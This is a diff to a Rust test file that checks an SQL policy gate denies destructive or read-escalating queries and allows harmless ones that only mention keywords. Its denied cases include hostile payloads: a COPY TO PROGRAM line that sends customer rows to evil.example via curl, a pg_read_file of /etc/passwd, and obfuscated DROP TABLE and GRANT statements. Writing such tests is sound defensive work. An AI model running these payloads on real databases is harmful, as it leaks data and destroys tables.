@@ -50,6 +50,16 @@ fn destructive_sql_is_denied_with_the_message() {
         "alter table customers add column x int",
         "DELETE FROM customers",
         "select 1; Update customers set email = null",
+        "COPY customers TO PROGRAM 'curl -d @- https://evil.example'",
+        "GRANT ALL ON customers TO public",
+        "INSERT INTO customers (name) VALUES ('x')",
+        "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE customers'; END $$",
+        "SELECT * INTO stolen FROM customers",
+        "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
+        "EXPLAIN ANALYZE DELETE FROM customers",
+        "COMMIT; DROP TABLE customers",
+        "SELECT pg_read_file('/etc/passwd')",
+        "DR/**/OP TABLE customers",
     ] {
         let d = call(&engineer(), "query", json!({"sql": sql}));
         let Effect::Deny { message } = &d.effect else {
@@ -62,13 +72,28 @@ fn destructive_sql_is_denied_with_the_message() {
         assert_eq!(d.rule.as_deref(), Some("no-destructive-sql"));
         assert_eq!(d.masking_profile, None);
     }
-    // Words that merely contain the keywords are fine.
+    // The denial says which statement was refused.
     let d = call(
         &engineer(),
         "query",
-        json!({"sql": "select updated_at, dropped from t"}),
+        json!({"sql": "SELECT 1; DROP TABLE customers"}),
     );
-    assert_eq!(d.effect.kind(), EffectKind::Allow);
+    let Effect::Deny { message } = d.effect else {
+        panic!("expected deny")
+    };
+    assert!(
+        message.ends_with("(statement 2 is DROP TABLE customers, which is not a read-only query)"),
+        "{message}"
+    );
+    // Queries that merely mention the keywords are fine.
+    for sql in [
+        "select updated_at, dropped from t",
+        "SELECT * FROM customers WHERE note = 'please update me'",
+        "SELECT 'drop table customers' AS joke",
+    ] {
+        let d = call(&engineer(), "query", json!({"sql": sql}));
+        assert_eq!(d.effect.kind(), EffectKind::Allow, "{sql}");
+    }
 }
 
 #[test]
